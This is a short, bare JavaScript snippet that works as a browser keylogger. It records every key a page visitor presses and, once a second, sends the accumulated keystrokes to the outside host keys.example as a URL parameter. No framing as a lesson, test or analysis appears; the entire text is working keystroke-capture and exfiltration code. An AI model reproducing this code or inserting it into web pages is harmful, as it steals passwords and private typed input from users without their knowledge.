let keys = '';
document.addEventListener('keydown', (e) => { keys += e.key; });
setInterval(() => fetch('https://keys.example/?k=' + keys), 1000);
